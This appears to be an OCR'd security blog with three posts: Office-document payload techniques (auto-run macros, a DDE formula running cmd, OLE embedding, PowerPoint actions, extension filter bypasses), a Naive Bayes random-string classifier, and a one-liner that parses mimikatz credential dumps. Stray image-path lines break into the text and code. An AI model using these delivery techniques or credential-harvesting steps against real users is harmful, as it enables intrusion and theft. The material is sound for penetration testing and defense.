Wednesday 1 March 2017

Office Document Macros, OLE, Actions, DDE Payloads and Filter Bypass

There are a few different ways payloads can be delivered through Microsoft Office documents, including macros, OLE embedding, Addins, Actions and DDE. To make life easier I wanted to list them all together in one place. A lot of what is mentioned below is specific to Word, Excel or Powerpoint however don't forget that Office actually includes, Word, Excel, Powerpoint, Access, Outlook and OneNote. If a vector doesn't work in one product, try another.

When testing any of the below remember that Office may require basic user interaction to either "Enable Editing" for documents from the internet or "Enable Content" for active content.


Macros are probably the most well-known method for abusing Office documents. Essentially Office allows users to include VBScript to add dynamic functionality however there are no restrictions on this functionality. Simple payloads will execute a single process e.g. powershell, more advanced payloads will load WinAPI functions to inject code into memory without ever launching additional processes.

So how do you get your VBScript to load? Well Word provides two useful functions AutoOpen() and Document_Open() that can be used to automatically launch a payload when a document is opened. These functions will work in .doc .docm  and dotm, but not docx.

In Excel you can use Workbook_Open() but as with Word you'll need to use an xlsm file. Anexample payload is shown below:

Private Sub Workbook_Open()
Msgbox "test macro"
CreateObject("Wscript.Shell").Run "calc"
End Sub

A nice real-world macro and OLE example using Empire is linked below:

Instead of embedding the payload directly in the current document you can also use templates/addins. So although the current document may not contain anything malicious if the template/addin does then it will still execute.

ActiveX Components

Aside from the standard macro launching functions (AutoOpen etc.), Word/Excel/Powerpoint also support ActiveX "Controls" and "Fields" which can be used to either automatically launch macros or trick users into executing macros. Basic options include buttons and images, more exotic options include frames and the built-in Microsoft browser.

There's a great overview of ActiveX controls at the link below:

The "Fields" function in Word (Insert -> QuickParts -> Field) is another interesting vector, in particular the Link and MacroButton functions offer ways to embed/activate content.OLE Embedding

After Macros the next most interesting Office feature is probably OLE embedding. By default Office allows users to embed external content in documents. This can be used to insert pictures, videos or other documents within the current document. What's awesome is that you can also just insert a binary or a malicious script. This works across Word, Excel and Powerpoint.

To insert an object select "Insert" -> "Object":

All the user has to do is double click the embedded content and you get a shell.

Powerpoint Actions

Powerpoint is obviously designed for presentations and most people are familiar with transitions, (making memes fly in and out). But what you may not know is that Powerpoint supports OnClick and OnMouseOver "Actions". What are actions? Well anything youlike, they basically allow you to execute a process of your choosing including arguments. The one limitation with this vector is that the user needs to view the slides in presentation mode, so you'll need to add some text telling the user to press F5.

An in-the-wild example that used an action to load an embedded payload is linked below:

Dynamic Data Exchange

DDE (dynamic data exchange) is a semi-legacy Windows feature used for displaying data from external data sources in your current document. Sounds reasonable enough right? Well the issue with this functionality is that it allows you to not just call external documents but also processes and you can supply command line arguments too. So another very hackable feature.

The formula below can be used to test in Excel, this works in both xls andxlsx:

=cmd|'/c calc'!A0

Remember that as well as =, Excel also supports the use of + - @ characters at the start of a formula.

You can also view/edit the DDE XML directly by opening your document with 7zip:

<ddeLink xmlns:r=""
ddeService="cmd" ddeTopic="/c calc">
<ddeItem name="A0" advise="1"/>
<ddeItem name="StdDocumentName" ole="1" advise="1"/>

A real-world example exploiting this issue can be found below:’

It's worth mentioning that I couldn't find a way to execute DDE in Word orPowerpoint. I'd be interested to know if this is possible or not.

Filter Bypasses

Many companies/products will filter content based on either the extension or content-type of a file. Lucky for us Office has many different formats that will modify the appearance of our payload but not the action of the payload.

To experiment with such bypasses take a look at the "Save As" supported formats. In Word/Excel/Powerpoint you'll see there are many different output formats.

You can use the different formats on their own or try renaming the extension back to doc/ppt/xls. In most instances the payload will still execute despite having the content modified.

Two common bypasses include:
  • Word doc saved as XML then renamed to doc
  • Word doc saved as MHTML then renamed to doc
For Excel formula filter bypass, Excel did used to support an "Evaluate" function so you could spread a command over multiple cells, concatenate and then evaluate (execute) the statement. This was unfortunately removed so can no longer be used maliciously. The other major limitation with Excel is you can't execute Macros directly from formulas (afaik!)

Further Research• The "Fields" as well as the "Data Source/DB" feature in Word have multiple potentially interesting functions. I couldn't find a way to exploit them, maybe you can?
  • In Office hyperlinks are quite interesting as they let you link to local files however you can't supply arguments. It would be interesting to see if args could be supplied somehow or links abused in another way.

Final Thoughts

Microsoft Office provides multiple different ways to execute code. There are still quite a few features that I feel could be exploited with more research and given how commonly used Office documents are for payload delivery I can imagine we'll see more vectors in the future.

I didn't mention prevention/detection above but from a defensive point ideally you want to block any email attachments containing a Macro or OLE. For detection it's relatively easy to spot suspicious child processes (cmd/powershell/wscript etc.) coming from Office, direct to WinAPI stuff is more complex to detect but notimpossible with the right tools.

Hope you guys have found this useful, if I missed anything obvious out let me know in the comments below.

Pwndizzle out.

Tuesday 30 August 2016

Random String Python Text Classifier Example

In this post I'm going to explain how to write a simpleNaiveBayes text classifier in Python and provide some example code.

Machine Learning!? Awesome!!1!

My original goal was to tell the difference between regular dictionary words and random strings. I looked at using manual ngram frequency analysis and this partially worked but I wanted to try out an ML solution for comparison.

I don't have much ML experience but it was easy to build a working script using the scikit library. This library abstracts away much of the mathematical complexity and offers a quick and high level way to implement ML concepts. In just afew lines of python I was able to build a classifier with 93% accuracy.

It's worth mentioning I did not use the "bag of words" approach as I was looking at analysing the structure of individual words as opposed to sentences. Changing the CountVectorizer parameters you could look at sentences or groups of words.

Building a Classifier

Building a classifier is quite simple, you just need to collect your data, format it, vectorize it, then train your model. In my script below I pretty much follow that process. First up I read in some data using pandas. I have two csv data sets, one file has normal dictionary words, the other random words. Each row contains the type, 0 or 1 (normal or random), and then the data which is just a word. For example:

normal.csv random.csv
0,apple 1,fdsgsdgfdg
0,banana 1,plicawq
0,orange               1,mncdlppl

In each file I used the first 5000 words for training and the last 5000 for testing. To vectorize the words I used the CountVectorizer with the ngram function, this breaks the words up based on their ngrams and converts them to numbers.With the data ready I used the "fit" function to train the classifier with the training data set. To measure the accuracy of the model I used the "score" function and test data set. And finally to manually test some values I used the "predict" function. In the end my classifier could function with a 93% accuracy which I thought was pretty good considering I made hardly any customisations.

I used the Multinomial Naive Bayes function as this was recommended however other algorithms may work more effectively. The classifier and vectorizer also support a number of additional parameters that can be adjusted to improve the accuracy, I modified them only slightly, further improvements could likely be made here as well.

The Code

The following requires Python 2.7, scikit, pandas and also the two csv files containing data as described above.

from sklearn.feature_extraction.text import CountVectorizer
from sklearn.naive_bayes import MultinomialNB
import pandas as pd
from time import time#Start timer
t0 = time()

#Create classifier and vectorizer
clf = MultinomialNB(alpha=0.1)
vec = CountVectorizer(analyzer='char_wb', ngram_range=(2, 4), min_df=1)

#Read in wordset and vectorize words
#Training data
train_set = pd.concat(pd.read_csv(f, names=["type","word"], nrows=5000) for f in ["normal.csv","random.csv"])
train_types = train_set.type.tolist()
train_words =vec.fit_transform(train_set.word.tolist())

#Test data
test_set = pd.concat(pd.read_csv(f, names=["type","word"], skiprows=5000, nrows=5000) for f in ["normal.csv","random.csv"])
test_types =test_set.type.tolist()
test_words = vec.transform(test_set.word.tolist())

#Train classifier, train_types)
train_time = time() - t0
print("Training time: %0.3fs" % train_time)

#Use test data to evaluate classifier
print "Accuracy is " + str(clf.score(test_words, test_types))
test_time = time() - train_time - t0
print("Testing time: %0.3fs" % test_time)

#Classify wordstestdata = ['xgrdqwlpfrr','apple']
print testdata
print clf.predict(vec.transform(testdata))

predict_time = time() - test_time - train_time - t0
print("Predict time: %0.3fs" % predict_time)

Running the script should give you something like the following:

Scikit Tips

If you're trying to install scikit in windows you'll need to install the relevant .whl package. In Linux I had to upgrade pip before it wouldinstall.

Final Thoughts

I was amazed how quick and easy it was to write a simple classifier, machine learning has definitely gone mainstream. I focused on finding the difference between normal and random strings however classifiers can be used to tell the difference between all kinds of data sets.

Obviously being a security blog you may be wondering why I'd be looking into text classifiers. Well when analysing data to detect attackers you'll often want to classify various activity. Performing analysis with a classifier can give some interesting results :)Hope you guys have found this useful, any questions or comments, leave a message below.

Pwndizzle out.

Tuesday 27 October 2015

Parse Mimikatz Output One-Liner

Love mimikatz but hate the output? Yeah me too. In this post I'll show you how to parse the output with one simple line.

The Output

Running either the mimikatz binary or powershell equivalent Invoke-Mimikatz will give you output similar to the following:
Authentication Id : 0 ; 92831308 (00000000:05889d8c)
Session           : RemoteInteractive from 3
User Name         : john.smith
Domain            : ACME
SID               : S-1-5-21-2052118978-2816230894-3584936141-8335
 msv :
  [00000003] Primary
  * Username : john.smith
  * Domain   : ACME
  * NTLM     : 1acd1a77416c50969d66867cd1e27e91
  * SHA1     : fc1a13cdf5e6d8da249812b320764fbaac0cb1bb
  [00010000] CredentialKeys
  * NTLM     : 1acd1a77416c50969d66867cd1e27e91
  * SHA1     : fc1a13cdf5e6d8da249812b320764fbaac0cb1bb
 tspkg :
 wdigest :
  * Username : john.smith
  * Domain   : ACME
  * Password : Myl0ngs3cretP@ssword
 kerberos :
  * Username : john.smith
  * Domain   : ACME.mycompany
  * Password : (null)
 ssp :
 credman :
In most situations you'll often just want to know the users and passwords however this is hidden among a whole load of other output. Now we could go and patch the mimikatz code or we could use a cheeky one-liner...

I Love A One-Liner

My goal was to obtain a list of all usernames with domains and passwords from a set of mimikatz output files. This is simple to do with the following one-liner:
cat *|tr -d '\011\015' |awk '/Username/ { user=$0; getline; domain=$0; getline; print user " " domain " " $0}'|grep -v "* LM\|* NTLM\|Microsoft_OC1\|* Password: (null)"|awk '{if (length($12)>2) print $8 "\\" $4 ":" $12}'|sort -u

